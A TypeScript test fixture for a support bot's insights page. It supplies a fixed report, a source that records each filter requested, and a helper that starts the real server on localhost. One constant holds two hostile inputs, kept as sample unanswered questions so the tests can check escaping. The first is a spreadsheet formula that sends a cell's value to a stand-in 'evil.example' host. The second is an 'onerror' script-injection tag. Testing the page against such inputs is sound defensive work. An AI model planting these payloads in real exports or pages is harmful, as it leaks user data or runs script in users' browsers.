/**
 * A fixed InsightsReport for the insights page's tests, served through the real routes by a source that records
 * each filter it was asked for. Why fixed JSON and no store: the page is tested here, the queries with the store.
 */
import type { Server } from 'restify';
import type { InsightsFilter, InsightsReport, InsightsSource } from '../../insights/report';
import { createLogger } from '../../logger';
import { parseConfig } from '../../config';
import { createAdapter, createServer, listen, shutdown } from '../../server';
import type { InsightsDeps } from '../../server/insights-routes';

export const INSIGHTS_KEY = 'insights-key-0123456789abcdefghijklmnopqrstuv';
export const INSIGHTS_SECRET = 'link-signing-secret-0123456789abcdefghijklmnop';
/** The fixed "now" of these tests: noon on the last day of the fixture. */
export const FIXTURE_NOW = Date.parse('2026-03-14T12:00:00Z');

const DAYS = Array.from({ length: 14 }, (_, i) => `2026-03-${String(i + 1).padStart(2, '0')}`);
const CHANNELS = ['directline', 'emulator', 'msteams'];

/** A question that would run as a formula in a spreadsheet, and one that is markup. */
export const HOSTILE = { formula: '=HYPERLINK("http://evil.example/?x="&A1)', markup: '<img src=x onerror=alert(1)>' };

/** The whole report, every channel. */
export const FIXTURE_REPORT: InsightsReport = {
  filter: { from: '2026-03-01', to: '2026-03-14' },
  channels: CHANNELS,
  conversationsPerDay: DAYS.flatMap((day, i) =>
    CHANNELS.map((channel, c) => ({ day, channel, count: 20 + ((i * 7 + c * 11) % 17) * (c + 1) })),
  ),
  answerKindsPerDay: DAYS.map((day, i) => ({
    day,
    answer: 60 + (i % 5) * 4,
    clarify: 8 + (i % 3),
    didYouMean: 5 + (i % 4),
    none: 6 + ((i * 3) % 7),
  })),
  topQuestions: [
    { about: 'smtp settings', count: 412 },
    { about: 'imap settings', count: 388 },
    { about: 'error-530', count: 214 },
    { about: 'pop-to-imap', count: 163 },
    { about: 'password-rejected', count: 97 },
    { about: 'imap-vs-pop', count: 71 },
  ],
  helpfulness: [
    { about: 'error-530', helpful: 120, notHelpful: 14 },
    { about: 'pop-to-imap', helpful: 88, notHelpful: 22 },
    { about: 'password-rejected', helpful: 31, notHelpful: 19 },
    { about: 'smtp-auth', helpful: 40, notHelpful: 3 },
  ],
  walkthroughFunnel: [1, 2, 3, 4, 5, 6].map((step) => ({
    step,
    reached: 160 - step * 18,
    abandoned: [6, 9, 21, 7, 4, 2][step - 1]!,
  })),
  walkthroughsFinished: 51,
  handoversPerDay: DAYS.map((day, i) => ({
    day,
    offered: 14 + (i % 4),
    requested: 9 + (i % 3),
    accepted: 7 + (i % 3),
    abandoned: 2 - (i % 2),
    ended: 7 + (i % 2),
  })),
  timeToAcceptMs: { p50: 84_000, p90: 312_000, count: 118 },
  agentRating: { average: 4.4, count: 63 },
  unanswered: [
    {
      key: 'forward email outlook',
      count: 23,
      examples: ['how do I forward my bt email to outlook.com', 'forward emails to my gmail', HOSTILE.formula],
      nearest: { id: 'addresses', question: 'what email addresses can i use' },
    },
    {
      key: 'change display name',
      count: 11,
      examples: ['how do i change the name people see when i send', HOSTILE.markup],
      nearest: null,
    },
  ],
};

/** The report for a filter: one channel's rows only, and smaller answer counts, so a filter visibly changes it. */
export function fixtureReport(filter: InsightsFilter): InsightsReport {
  if (filter.channel === undefined) return { ...FIXTURE_REPORT, filter };
  const only = FIXTURE_REPORT.conversationsPerDay.filter((row) => row.channel === filter.channel);
  const third = (n: number) => Math.round(n / 3);
  return {
    ...FIXTURE_REPORT,
    filter,
    conversationsPerDay: only,
    topQuestions: FIXTURE_REPORT.topQuestions.map((row) => ({ ...row, count: third(row.count) })),
    unanswered: FIXTURE_REPORT.unanswered.slice(0, 1),
  };
}

/** A source of fixture reports that records each filter asked for. */
export function fixtureSource(where?: string): InsightsSource & { asked: InsightsFilter[] } {
  const asked: InsightsFilter[] = [];
  return {
    asked,
    ...(where ? { where } : {}),
    report: (filter) => {
      asked.push(filter);
      return fixtureReport(filter);
    },
  };
}

/** A running server with only the insights routes' deps set, on 127.0.0.1. */
export interface InsightsServer {
  url: string;
  server: Server;
  logs: string[];
  close(): Promise<void>;
}

/** Starts the real server with the insights routes; `apiKey: undefined` leaves them off. */
export async function startInsightsServer(
  options: Pick<InsightsDeps, 'apiKey' | 'source' | 'now' | 'trustProxy' | 'signInLimit'> = {},
): Promise<InsightsServer> {
  const logs: string[] = [];
  const logger = createLogger('info', { write: (line: string) => logs.push(line) });
  const adapter = createAdapter(parseConfig({}), logger);
  const insights = {
    apiKey: 'apiKey' in options ? options.apiKey : INSIGHTS_KEY,
    signingSecret: INSIGHTS_SECRET,
    source: options.source ?? fixtureSource(),
    now: options.now ?? (() => FIXTURE_NOW),
    trustProxy: options.trustProxy,
    signInLimit: options.signInLimit,
  };
  const server = createServer({ adapter, bot: { run: async () => undefined }, logger, insights });
  const url = await listen(server, 0, '127.0.0.1');
  return { url, server, logs, close: () => shutdown(server, 2000) };
}
